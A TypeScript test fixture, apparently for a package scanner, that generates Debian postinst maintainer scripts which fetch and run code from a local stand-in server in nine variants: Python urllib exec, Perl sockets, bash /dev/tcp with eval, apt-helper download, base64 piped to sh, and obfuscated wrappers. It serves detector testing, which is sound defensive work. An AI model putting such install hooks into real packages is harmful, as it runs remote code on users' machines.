import type { Attack, Variant } from './harness/attack.ts'
import { debProject, inDeb } from './harness/deb-project.ts'

/** Where the attacker's server answers with a line of code, in the root that the package is installed in. */
const server = (name: string): string => `http://127.0.0.1:8123/${name}`

const python = (name: string): string =>
  `import urllib.request as u; exec(u.urlopen("${server(name)}").read())`

const fetching: Record<string, { how: string; lines: string; shell?: string }> = {
  python: { how: 'code for Python on the line', lines: `python3 -c '${python('python')}'` },
  heredoc: { how: 'code for Python in a here-document', lines: `python3 - <<END\n${python('heredoc')}\nEND` },
  wrapped: {
    how: 'behind programs that call others, with its name in two parts',
    lines: `env -i timeout 20 /usr/bin/pyt""hon3 -c '${python('wrapped')}'`
  },
  asyncio: {
    how: 'a connection that Python opens by asyncio',
    lines: `python3 -c '
import asyncio
async def get():
    reader, writer = await asyncio.open_connection("127.0.0.1", 8123)
    writer.write(b"GET /asyncio HTTP/1.0\\r\\n\\r\\n")
    print((await reader.read()).decode().splitlines()[-1][7:-2])
asyncio.run(get())'`
  },
  perl: {
    how: 'code for Perl on the line',
    lines: `perl -MHTTP::Tiny -e 'system(HTTP::Tiny->new->get("${server('perl')}")->{content})'`
  },
  socket: {
    how: 'a connection that Perl opens by itself',
    lines: `perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(8123, inet_aton("127.0.0.1"))); syswrite(S, "GET /socket HTTP/1.0\\r\\n\\r\\n"); @all = <S>; system($all[-1])'`
  },
  tcp: {
    how: 'a connection of bash',
    shell: '/bin/bash',
    lines: `exec 3<>/dev/tcp/127.0.0.1/8123
printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3
eval "$(tail -n 1 <&3)"`
  },
  helper: {
    how: 'the program by which apt fetches',
    lines: `/usr/lib/apt/apt-helper download-file ${server('helper')} /tmp/helper
sh /tmp/helper`
  },
  decoded: {
    how: 'a line of base64 that is decoded and run',
    lines: `echo ${Buffer.from('echo "fired: decoded"\n').toString('base64')} | base64 -d | sh`
  }
}

export const scriptFetches: Attack = {
  name: 'script-fetches',
  rows: '10, 11',
  title: 'A maintainer script of the tag runs what a server says on the day of the installation',
  caughtBy:
    'Tracing: the scripts in the package are read as a shell reads them; none may fetch, install, or run what it decodes.',
  scenes: [
    {
      name: 'debian/',
      files: debProject({
        packages: Object.keys(fetching),
        files: Object.fromEntries(
          Object.entries(fetching).map(([name, { lines, shell = '/bin/sh' }]) => [
            `debian/victim-${name}.postinst`,
            `#!${shell}\nset -e\n#DEBHELPER#\n${lines}\n`
          ])
        )
      }),
      variants: Object.entries(fetching).map(([name, { how }]): Variant => ({
        name,
        how,
        reported: [inDeb(name, 'maintainer-script', 'DEBIAN/postinst')]
      }))
    }
  ]
}
